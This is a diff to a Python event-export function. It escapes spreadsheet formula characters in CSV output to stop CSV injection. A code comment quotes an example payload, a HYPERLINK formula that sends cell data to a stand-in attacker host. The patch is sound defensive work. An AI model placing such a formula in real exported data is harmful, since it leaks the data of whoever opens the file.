@@ -124,6 +124,15 @@ def _lines(file, count):
         yield line
 
 
+# a cell that a spreadsheet runs as a formula (CSV injection): anyone can send an event, so a
+# path such as =HYPERLINK("http://evil.example?"&A1) would run on the site owner's machine
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _spreadsheet_cell(value):
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
+
+
 def export_events(connection, out, site_id, period, fmt="jsonl"):
     """Stream the events of a site (and period) in id order; returns how many."""
     # :name parameters, the one form both stores take (postgres_store.to_pyformat)
@@ -140,7 +149,7 @@ def export_events(connection, out, site_id, period, fmt="jsonl"):
     while rows := cursor.fetchmany(5000):
         for row in rows:
             if writer:
-                writer.writerow(row)
+                writer.writerow([_spreadsheet_cell(value) for value in row])
             else:
                 out.write(orjson.dumps(dict(zip(EVENT_COLUMNS, row))).decode() + "\n")
         count += len(rows)
